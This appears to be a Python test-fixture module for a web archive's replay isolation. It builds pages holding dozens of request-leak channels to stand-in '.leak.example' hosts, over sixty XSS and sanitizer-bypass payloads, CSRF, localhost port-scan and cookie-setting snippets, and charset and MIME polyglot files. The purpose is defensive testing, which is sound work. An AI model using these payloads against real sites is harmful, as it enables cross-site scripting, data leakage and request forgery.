"""Hostile content: channels that reach out, scripts that try to run, odd files.

Each channel has a host of its own, each script says by `data-ran` and by the title that
it ran.
"""

import tomllib
from pathlib import Path

SUFFIX = ".leak.example"
RAN = "data-ran"
RUN = "document.documentElement.setAttribute('data-ran','1');document.title='RAN'"

_CHANNELS = {
    "img": '<img src="{u}/1.png">',
    "srcset": '<img srcset="{u}/1.png 1x, {u}/2.png 2x">',
    "picture": '<picture><source srcset="{u}/1.png"><img alt=""></picture>',
    "lazy": '<img loading="eager" data-src="{u}/a" src="{u}/1.png">',
    "link-style": '<link rel="stylesheet" href="{u}/s.css">',
    "link-icon": '<link rel="icon" href="{u}/i.png">',
    "link-preload": '<link rel="preload" as="image" href="{u}/p.png">',
    "link-prefetch": '<link rel="prefetch" href="{u}/p.html">',
    "link-dns": '<link rel="dns-prefetch" href="{u}">',
    "link-preconnect": '<link rel="preconnect" href="{u}">',
    "link-module": '<link rel="modulepreload" href="{u}/m.js">',
    "link-manifest": '<link rel="manifest" href="{u}/m.json">',
    "script": '<script src="{u}/s.js"></script>',
    "module": '<script type="module">import "{u}/m.js"</script>',
    "iframe": '<iframe src="{u}/f.html"></iframe>',
    "srcdoc": "<iframe srcdoc='<img src={u}/1.png>'></iframe>",
    "object": '<object data="{u}/o.html"></object>',
    "embed": '<embed src="{u}/e.html">',
    "video": '<video src="{u}/v.mp4" autoplay preload="auto"></video>',
    "poster": '<video poster="{u}/p.png"></video>',
    "audio": '<audio src="{u}/a.mp3" autoplay preload="auto"></audio>',
    "source": '<video autoplay><source src="{u}/v.webm"></video>',
    "track": '<video><track default src="{u}/t.vtt"></video>',
    "input-image": '<form><input type="image" src="{u}/1.png"></form>',
    "body-background": '<table background="{u}/b.png"><tr><td>x</td></tr></table>',
    "css-import": '<style>@import url("{u}/i.css");</style>',
    "css-import-string": '<style>@import "{u}/i.css" screen;</style>',
    "css-background": "<style>.c1{{background:url({u}/b.png)}}</style>"
    '<div class="c1">x</div>',
    "css-font": "<style>@font-face{{font-family:L;src:url({u}/f.woff2)}}"
    '.c2{{font-family:L}}</style><p class="c2">x</p>',
    "css-attribute": '<div style="background-image:url({u}/b.png)">x</div>',
    "css-image-set": "<style>.c3{{background:image-set('{u}/b.png' 1x)}}</style>"
    '<div class="c3">x</div>',
    "css-list": '<ul style="list-style-image:url({u}/l.png)"><li>x</li></ul>',
    "css-content": "<style>.c4::before{{content:url({u}/c.png)}}</style>"
    '<p class="c4">x</p>',
    "css-border": '<p style="border:9px solid;border-image:url({u}/b.png) 9">x</p>',
    "css-variable": "<style>:root{{--a:url({u}/v.png)}}.c5{{background:var(--a)}}"
    '</style><div class="c5">x</div>',
    "svg-image": '<svg><image href="{u}/s.png" width="9" height="9"/></svg>',
    "svg-use": '<svg><use href="{u}/s.svg#a"/></svg>',
    "svg-filter": '<svg><rect width="9" height="9" fill="url({u}/f.svg#x)"/></svg>',
    "refresh": '<meta http-equiv="refresh" content="2;url={u}/r.html">',
    "anchor": '<a href="{u}/a.html" ping="{u}/p">link</a>',
    "fetch": '<script>fetch("{u}/f",{{mode:"no-cors"}})</script>',
    "beacon": '<script>navigator.sendBeacon("{u}/b","x")</script>',
    "socket": '<script>new WebSocket("ws://{h}/w")</script>',
    "events": '<script>new EventSource("{u}/e")</script>',
    "form": '<form id="f1" action="{u}/f" target="t1"></form><iframe name="t1">'
    '</iframe><script>document.getElementById("f1").submit()</script>',
    "webrtc": "<script>try{{var c=new RTCPeerConnection({{iceServers:"
    '[{{urls:"stun:{h}:3478"}}]}});c.createDataChannel("x");'
    "c.createOffer().then(o=>c.setLocalDescription(o))}}catch(e){{}}</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob(["
    "'importScripts(\"{u}/w.js\")'])))</script>",
}
"""Name of a channel -> markup; `{u}` is its origin, `{h}` its host."""
_FURTHER = tomllib.loads(Path(__file__).with_name("further.toml").read_text("utf-8"))
_CLOSING = "".join(
    f"</{tag}>"
    for tag in (
        *("style", "title", "noscript", "iframe", "select", "form", "table"),
        *("annotation-xml", "mglyph", "mtext", "math", "svg", "template", "p", "div"),
    )
)
"""Ends what one channel left open, so that the next one is read."""
CHANNELS = (*_CHANNELS, *_FURTHER["channels"])


def host_of(channel: str, case: str) -> str:
    """The host of one channel in one run."""
    return f"{channel}.{case}{SUFFIX}"


def channel_parts(case: str) -> dict[str, str]:
    """The markup of each channel, with hosts of that run."""
    found = {}
    for channel in CHANNELS:
        host = host_of(channel, case)
        if channel in _CHANNELS:
            found[channel] = _CHANNELS[channel].format(u=f"http://{host}", h=host)
        else:
            written: str = _FURTHER["channels"][channel]
            found[channel] = written.replace("{u}", f"http://{host}") + _CLOSING
    return found


def leaking_page(case: str) -> bytes:
    """A page with every channel; the case keeps the runs apart."""
    parts = list(channel_parts(case).values())
    # What takes in the rest of a page as text stands behind it.
    head = "".join(part for part in parts if part.startswith(("<link", "<meta")))
    body = "".join(part for part in parts if not part.startswith(("<link", "<meta")))
    return (
        f"<!doctype html><html><head><title>Leaks</title>{head}</head>"
        f"<body><h1>Leaks</h1><p>{'Long enough to be a page. ' * 20}</p>{body}"
        "<p>The end of the page.</p></body></html>"
    ).encode()


def leaking_sheet(case: str) -> bytes:
    """A style sheet captured as a part, written anew by us."""
    names = ("import", "image", "font", "cursor", "content", "imageset", "namespace")
    u = {name: f"http://sheet-{name}.{case}{SUFFIX}" for name in names}
    return (
        f"@import url({u['import']}/i.css);@namespace url({u['namespace']}/n);"
        f"@font-face{{font-family:M;src:url({u['font']}/f.woff2)}}"
        f"body{{background:url({u['image']}/b.png);cursor:url({u['cursor']}/c.cur),auto;"
        f"font-family:M}}p::before{{content:url({u['content']}/c.png)}}"
        f"h1{{background:-webkit-image-set('{u['imageset']}/b.png' 1x)}}"
        f"a{{behavior:url({u['image']}/b.htc);-moz-binding:url({u['image']}/x.xml#y)}}"
    ).encode()


_SCRIPTS = (
    "<script>{r}</script>",
    "<SCRIPT>{r}</SCRIPT>",
    "<script type=module>{r}</script>",
    '<script src="data:text/javascript,{r}"></script>',
    '<img src=x onerror="{r}">',
    "<img src='x'onerror=\"{r}\">",
    '<img/src=x/onerror="{r}">',
    '<body onload="{r}">',
    '<body onpageshow="{r}">',
    '<svg onload="{r}">',
    "<svg><script>{r}</script></svg>",
    '<svg><animate onbegin="{r}" attributeName=x dur=1s>',
    '<svg><set onbegin="{r}" attributeName=x to=y>',
    '<svg><image href=x onerror="{r}"></svg>',
    '<svg><style><img src=x onerror="{r}"></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{r}">',
    '<math><mi><mglyph><style><!--</style><img title="--><img src=x onerror={r}>">',
    '<details open ontoggle="{r}"><summary>x</summary></details>',
    '<input autofocus onfocus="{r}">',
    '<select autofocus onfocus="{r}"></select>',
    '<textarea autofocus onfocus="{r}"></textarea>',
    '<button autofocus onfocus="{r}">x</button>',
    '<a href=x autofocus tabindex=1 onfocus="{r}">x</a>',
    '<video src=x onerror="{r}"></video>',
    '<video><source onerror="{r}" src=x></video>',
    '<audio src=x onerror="{r}"></audio>',
    '<object data=x onerror="{r}"></object>',
    '<embed src=x onload="{r}" onerror="{r}">',
    '<iframe onload="{r}"></iframe>',
    '<iframe srcdoc="<script>parent.{r}</script>"></iframe>',
    '<iframe src="javascript:parent.{r}"></iframe>',
    '<object data="javascript:{r}"></object>',
    '<embed src="javascript:{r}">',
    '<meta http-equiv=refresh content="0;url=javascript:{r}">',
    '<link rel=stylesheet href="data:text/css,x" onload="{r}">',
    '<link rel=stylesheet href=x onerror="{r}">',
    '<style onload="{r}">x{{}}</style>',
    "<style>@import 'data:text/css,x';</style><style onload=\"{r}\"></style>",
    '<marquee onstart="{r}">x</marquee>',
    '<form><button formaction="javascript:{r}" autofocus>x</button></form>',
    '<form action="javascript:{r}" id=q></form><script>q.submit()</script>',
    '<a href="javascript:{r}" id=l>x</a><script>l.click()</script>',
    '<a href="java\tscript:{r}" id=l>x</a><script>l.click()</script>',
    '<noscript><p title="</noscript><img src=x onerror={r}>"></noscript>',
    "<template><script>{r}</script></template><script>{r}</script>",
    '<title><img src=x onerror="{r}"></title></title><img src=x onerror="{r}">',
    '<textarea><img src=x></textarea><img src=x onerror="{r}">',
    '<xmp><p title="</xmp><img src=x onerror={r}>"></xmp>',
    '<!--><img src=x onerror="{r}">-->',
    '<!-- --!><img src=x onerror="{r}">',
    '<![CDATA[<img src=x onerror="{r}">]]>',
    '<?xml version=1?><img src=x onerror="{r}">',
    '<div style="animation:k 1s" onanimationstart="{r}">x</div>'
    "<style>@keyframes k{{}}</style>",
    '<div style="width:expression({r})">x</div><script>{r}</script>',
    '<base href="javascript:{r}//"><a href=x id=l>x</a><script>{r}</script>',
    '<table background="javascript:{r}"><tr><td>x</table><script>{r}</script>',
    '<p id="x" title=\'"><img src=x onerror="{r}">\'>x</p><script>{r}</script>',
    "\ufeff<script>{r}</script>",
    "<scr\0ipt>{r}</scr\0ipt><script>{r}</script>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{r}</script>'></iframe>"
    "</foreignObject></svg>",
)
ATTACKS = {
    "content-switch": "<p id=w>shown</p><script>if(location.host!='bank.example')"
    "w.textContent='switched';{r}</script>",
    "csrf": '<form id=c method=post action="{a}/search"><input name=q value=x>'
    "</form><script>{r};c.submit()</script>",
    "port-scan": "<script>{r};for(let p of [22,80,8000])new Image().src="
    "'http://127.0.0.1:'+p+'/'</script>",
    "same-domain": "<script>{r};try{{localStorage.x=1;document.cookie='x=1';"
    "fetch('{a}/status').then(t=>t.text())}}catch(e){{}}</script>",
    "same-subdomain": "<script>{r};document.cookie='x=1;domain='+location.hostname"
    "</script>",
}
"""The five classic attacks on archives; `{a}` is the origin of our own pages."""


def payloads(app_origin: str) -> dict[str, bytes]:
    """Sixty scripts and more, and the five attacks, each a page of its own."""
    found = {f"script-{number}": text for number, text in enumerate(_SCRIPTS, 1)}
    found |= ATTACKS
    written = {name: text.format(r=RUN, a=app_origin) for name, text in found.items()}
    further: dict[str, str] = _FURTHER["scripts"]
    written |= {name: text.replace("{r}", RUN) for name, text in further.items()}
    return {
        name: (
            "<!doctype html><html><head><title>Page</title></head><body><p>Page</p>"
            f"{text}</body></html>"
        ).encode()
        for name, text in written.items()
    }


def _odd_charsets() -> dict[str, tuple[str, bytes]]:
    """The same script for decoders that read other letters than we do."""
    page = f"<html><body><script>{RUN}</script></body></html>"
    escaped = page.replace("<", "+ADw-").replace(">", "+AD4-").encode()
    shifted = b'<html><body><p title="\x1b$B">x</p><p title="\x1b(B'
    shifted += f'"><script>{RUN}</script>'.encode()
    wide = page.encode("utf-16-le")
    return {
        "utf-7": ("text/html; charset=utf-7", escaped),
        "utf-7-meta": ("text/html", b"<meta charset=utf-7>" + escaped),
        "iso-2022-jp": ("text/html; charset=iso-2022-jp", shifted),
        "iso-2022-jp-guessed": ("text/html", shifted),
        "hz": ("text/html; charset=hz-gb-2312", b"~{<~}" + page.encode()),
        "utf-16-unmarked": ("text/html; charset=utf-16le", wide),
        "utf-16-odd": ("text/html; charset=utf-16be", b" " + wide),
        "utf-32": ("text/html; charset=utf-32", page.encode("utf-32")),
        "ebcdic": ("text/html; charset=cp037", page.encode("cp037")),
        "user-defined": ("text/html; charset=x-user-defined", page.encode()),
        "two-charsets": ("text/html; charset=utf-8; charset=utf-7", escaped),
    }


def _odd_documents(script: str) -> dict[str, tuple[str, bytes]]:
    """Documents by types that some browser displays, or displayed."""
    html = f"<html><body>{script}</body></html>"
    xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml">{script}</html>'
    style = '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xsl,'
    parts = f"--x\r\nContent-Type: text/html\r\n\r\n{html}\r\n--x--\r\n"
    entity = f'<!DOCTYPE x [<!ENTITY e "<y/>{RUN}">]>{xhtml.replace(RUN, "&e;")}'
    written = {
        "xsl-data": ("text/xml", f'{style}%3Cx/%3E"?>{xhtml}'),
        "xsl": ("text/xsl", xhtml),
        "entity": ("application/xhtml+xml", entity),
        "rdf": ("application/rdf+xml", xhtml),
        "mathml": ("application/mathml+xml", xhtml),
        "atom": ("application/atom+xml", xhtml),
        "wap": ("application/vnd.wap.xhtml+xml", xhtml),
        "mixed": ("multipart/x-mixed-replace; boundary=x", parts),
        "mixed-related": ("multipart/related; boundary=x", parts),
        "mail": ("message/rfc822", f"Content-Type: text/html\r\n\r\n{html}"),
        "vtt": ("text/vtt", f"WEBVTT\n\n00:00.000 --> 00:09.000\n{html}"),
        "component": ("text/x-component", html),
        "exchange": ("application/signed-exchange;v=b3", html),
        "any": ("*/*", html),
        "list": ("image/png, text/html", html),
        "spaced": (" text/html ;x=y", html),
        "capitals": ("TEXT/HTML", html),
        "no-slash": ("html", html),
    }
    return {name: (kind, text.encode()) for name, (kind, text) in written.items()}


def odd_files() -> dict[str, tuple[str, bytes]]:
    """Files that a browser might run: name -> type the server said, bytes."""
    script = f"<script>{RUN}</script>"
    page = f"<html><body>{script}</body></html>".encode()
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="'
        f'{RUN}"><script>{RUN}</script></svg>'
    ).encode()
    xhtml = (
        f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{script}</body></html>'
    ).encode()
    xslt = (
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x>'
        '<xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/'
        f'Transform"><xsl:template match="/"><html>{script}</html></xsl:template>'
        "</xsl:stylesheet></x>"
    ).encode()
    pdf = b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
    magics = {"gif": b"GIF89a", "png": b"\x89PNG\r\n\x1a\n", "jpeg": b"\xff\xd8\xff"}
    found = {
        **_odd_charsets(),
        **_odd_documents(script),
        "svg": ("image/svg+xml", svg),
        "svg-as-html": ("text/html", svg),
        "svg-as-text": ("text/plain", svg),
        "xhtml": ("application/xhtml+xml", xhtml),
        "xml": ("text/xml", xhtml),
        "xslt": ("application/xml", xslt),
        "pdf": ("application/pdf", pdf),
        "text": ("text/plain", page),
        "css": ("text/css", page),
        "js": ("text/javascript", RUN.encode()),
        "json": ("application/json", page),
        "none": ("", page),
        "unknown": ("application/x-unknown", page),
        "octets": ("application/octet-stream", page),
        "mhtml": ("multipart/related", page),
        "rss": ("application/rss+xml", xhtml),
        "wbn": ("application/webbundle", page),
        "zip": ("application/zip", b"PK\3\4" + page),
        "ico": ("image/x-icon", b"\0\0\1\0" + page),
        "webp": ("image/webp", b"RIFF\0\0\0\0WEBP" + page),
        "mp4": ("video/mp4", b"\0\0\0\x18ftypmp42" + page),
        "wav": ("audio/wav", b"RIFF\0\0\0\0WAVE" + page),
    }
    for name, magic in magics.items():
        found[f"{name}-polyglot"] = (f"image/{name}", magic + page)
        found[f"{name}-as-html"] = ("text/html", magic + page)
        found[f"html-as-{name}"] = (f"image/{name}", page)
    return found


ARCHIVED_HEADERS = (
    *("Set-Cookie: a=1; Domain=localhost", "Set-Cookie2: a=1", "Refresh: 0;url=/x"),
    *("Link: <http://x.example/a.css>; rel=stylesheet", "Location: http://x.example/"),
    *("Content-Location: /y", "Strict-Transport-Security: max-age=9", "NEL: {}"),
    *("Report-To: {}", 'Reporting-Endpoints: a="http://x.example/"', "Alt-Svc: h3"),
    *("Access-Control-Allow-Origin: *", "Access-Control-Allow-Credentials: true"),
    *("Access-Control-Expose-Headers: *", "Access-Control-Max-Age: 9", "Age: 9"),
    *("Content-Security-Policy: default-src *", "X-Frame-Options: DENY"),
    *("Content-Security-Policy-Report-Only: report-uri http://x.example/",),
    *("X-Content-Type-Options: sniff", "Referrer-Policy: unsafe-url", "Via: x"),
    *("Permissions-Policy: camera=*", "Feature-Policy: camera *", "Server: x"),
    *("Cross-Origin-Opener-Policy: unsafe-none", "X-Powered-By: x", "Warning: 1"),
    *("Cross-Origin-Embedder-Policy: require-corp", 'Clear-Site-Data: "*"'),
    *("Cross-Origin-Resource-Policy: same-origin", "Origin-Agent-Cluster: ?0"),
    *("X-DNS-Prefetch-Control: on", "Accept-CH: Sec-CH-UA", "Critical-CH: UA"),
    *("Service-Worker-Allowed: /", "SourceMap: /m", "X-SourceMap: /m", "Vary: *"),
    *("Cache-Control: public, max-age=999", "Expires: 0", "Pragma: no-cache"),
    *('ETag: "x"', "Last-Modified: Sun, 26 Jan 2025 18:04:11 GMT", "P3P: CP=x"),
    *("Content-Disposition: inline; filename=x.html", "Content-Language: be"),
    *("Timing-Allow-Origin: *", "Server-Timing: a", "Expect-CT: max-age=9"),
    *("Public-Key-Pins: x", "X-XSS-Protection: 1", 'Speculation-Rules: "/s"'),
    *("Supports-Loading-Mode: credentialed-prerender", "No-Vary-Search: params"),
    *("X-Robots-Tag: all", "X-UA-Compatible: IE=5", "Tk: T", "Sec-GPC: 1"),
    *("WWW-Authenticate: Basic realm=x", "Proxy-Authenticate: Basic", "Allow: PUT"),
    *("Upgrade: h2c", "Trailer: X", "Keep-Alive: timeout=99", "Retry-After: 1"),
    *("Memento-Datetime: Thu, 01 Jan 1970 00:00:00 GMT", "Accept-Ranges: none"),
    *("X-Archive-Orig-Date: x", "Digest: x", "Content-MD5: x", "Host: x.example"),
)
"""Header lines of an archived response; not one may be sent again as it was."""
